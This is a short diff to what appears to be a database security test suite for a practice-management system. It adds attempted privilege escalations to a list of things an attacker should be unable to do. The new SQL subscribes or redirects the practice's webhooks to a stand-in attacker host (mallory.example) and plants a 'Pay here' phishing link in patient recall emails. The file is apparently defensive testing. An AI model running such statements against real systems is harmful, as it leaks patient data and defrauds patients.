@@ -208,6 +208,14 @@ def _escalations(a: Arena) -> dict[str, list[tuple[str, tuple[Any, ...]]]]:
         "end the administrator's sessions": [(
             "SELECT ils_end_session(id) FROM sessions WHERE user_id = %s", (admin,))],
         "start a service session": [("SELECT * FROM ils_start_service_session('x', 'x')", ())],
+        "subscribe one's own URL to the practice's events": [(
+            "INSERT INTO webhook_subscriptions (company_id, id, name, url, events) VALUES "
+            "(%s, gen_random_uuid(), 'x', 'https://mallory.example/hook', '[\"booking.made\"]')", (company,))],
+        "point the practice's webhooks elsewhere": [(
+            "UPDATE webhook_subscriptions SET url = 'https://mallory.example/hook'", ())],
+        "rewrite what the practice sends patients": [(
+            "INSERT INTO email_templates (company_id, kind, channel, subject, body) VALUES "
+            "(%s, 'recall', 'email', 'x', 'Pay here: https://mallory.example')", (company,))],
         "weak password record as the administrator": [(
             "SELECT ils_bind_session(%s)", (a.attacker_admin_token,)), (
             "SELECT ils_set_password(%s, %s, %s::jsonb, %s)", (me, weak.salt, weak_params, weak.verifier))],
